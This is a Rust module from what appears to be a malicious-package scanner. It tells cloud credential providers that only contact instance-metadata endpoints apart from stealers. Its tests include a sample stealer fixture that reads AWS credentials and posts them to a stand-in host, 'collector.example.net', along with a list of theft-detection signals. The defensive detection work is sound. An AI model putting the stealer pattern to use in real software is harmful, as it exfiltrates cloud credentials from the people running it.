//! Shared by the exfiltration rules: is the package a cloud credential provider, whose only
//! network destination is the machine's own instance-metadata endpoint?
//!
//! AWS, GCP, Azure and Alibaba serve a virtual machine's or container's role credentials on a
//! link-local address that never leaves the host (`169.254.169.254`, ECS `169.254.170.2`,
//! `metadata.google.internal`, `100.100.100.200`). A credential provider chain reads
//! `~/.aws/credentials`, `AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` and the metadata endpoint and
//! returns what it finds to its caller; a stealer reads the same and sends it to a host of its
//! own. The difference is the destination, so the test is on destinations only: the package
//! names a metadata endpoint, names no other URL, and carries none of the ingredients that make
//! a read a theft elsewhere (exfiltration endpoints, environment dumps, hidden or obfuscated code).

use crate::classify::FileKind;
use crate::signal::{Kind, PackageFacts};

/// Instance-metadata endpoints: link-local or provider-internal, reachable only from the host.
const METADATA_HOSTS: &[&str] = &[
    "169.254.169.254",
    "169.254.170.2",
    "169.254.170.23",
    "fd00:ec2::254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "100.100.100.200",
];

/// Signals that make any credential read a theft whatever the destinations look like.
const THEFT_INGREDIENTS: &[Kind] = &[
    Kind::Endpoint,
    Kind::EnvDump,
    Kind::HiddenCode,
    Kind::HiddenModuleName,
    Kind::StringArray,
    Kind::StringArrayRotation,
    Kind::DecodeExec,
    Kind::ShellNetwork,
    Kind::BrowserSend,
];

/// True when the package's JavaScript names an instance-metadata endpoint and no other URL
/// (`localhost` aside), and carries no theft ingredient (see the module docs).
pub(crate) fn metadata_only(p: &PackageFacts) -> bool {
    if p.has_any(THEFT_INGREDIENTS) {
        return false;
    }
    let mut names_metadata = false;
    for f in p.files.iter().filter(|f| f.kind == FileKind::JavaScript) {
        let Some(text) = f.text.as_deref() else {
            continue;
        };
        if METADATA_HOSTS.iter().any(|h| text.contains(h)) {
            names_metadata = true;
        }
        for scheme in ["http://", "https://", "ws://", "wss://"] {
            for (i, _) in text.match_indices(scheme) {
                let end = text.floor_char_boundary(text.len().min(i + 200));
                let host = crate::text::url_host(&text[i..end]);
                let ok = host.is_empty()
                    || METADATA_HOSTS.contains(&host.as_str())
                    || host == "localhost"
                    || host == "127.0.0.1";
                if !ok {
                    return false;
                }
            }
        }
    }
    names_metadata
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::scan_facts;

    const PJ: &str = r#"{"name":"t","version":"1.0.0"}"#;

    #[test]
    fn url_cut_inside_a_multibyte_character() {
        // The 200-byte window after a scheme ended inside a two-byte character: a panic that
        // stopped the scan of a real package (a CLI with Cyrillic help text).
        // 29 ASCII bytes after the scheme's start, then two-byte characters: byte 200 falls
        // inside one.
        let url = format!("http://169.254.169.254/latest{}", "м".repeat(150));
        assert!(!url.is_char_boundary(200));
        let text = format!("const u = '{url}';\n");
        let p = scan_facts(&[("package.json", PJ), ("index.js", &text)]);
        assert!(super::metadata_only(&p));
    }

    #[test]
    fn metadata_endpoint_alone() {
        let p = scan_facts(&[
            ("package.json", PJ),
            (
                "index.js",
                "const http = require('http');\nexports.role = () => http.get({ host: '169.254.169.254', path: '/latest/meta-data/' });\n",
            ),
        ]);
        assert!(super::metadata_only(&p));
    }

    const PROVIDER: &str = "const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');\nexports.fromFile = () => fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\nexports.fromEcs = () => http.request({ host: '169.254.170.2', path: process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI }).end();\n";

    /// A credential provider chain: the shared credentials file and the ECS endpoint, returned
    /// to the caller. Weak signals only.
    #[test]
    fn negative_credential_provider_is_clean() {
        let s = crate::rules::test_util::scan(&[("package.json", PJ), ("index.js", PROVIDER)]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/credential-theft"),
            Some(diligence_finding::Severity::Low)
        );
    }

    /// The same reads in a package that also names a collector are not lowered.
    #[test]
    fn positive_same_reads_with_another_destination() {
        let stealer = format!(
            "{PROVIDER}exports.up = (d) => http.request('http://collector.example.net/c').end(d);\n"
        );
        let s = crate::rules::test_util::scan(&[("package.json", PJ), ("index.js", &stealer)]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/credential-theft"),
            Some(diligence_finding::Severity::Medium)
        );
    }

    #[test]
    fn another_url_is_not_metadata_only() {
        let p = scan_facts(&[
            ("package.json", PJ),
            (
                "index.js",
                "const http = require('http');\nexports.role = () => http.get({ host: '169.254.169.254' });\nexports.up = (d) => http.request('http://collector.example.net/c').end(d);\n",
            ),
        ]);
        assert!(!super::metadata_only(&p));
    }
}
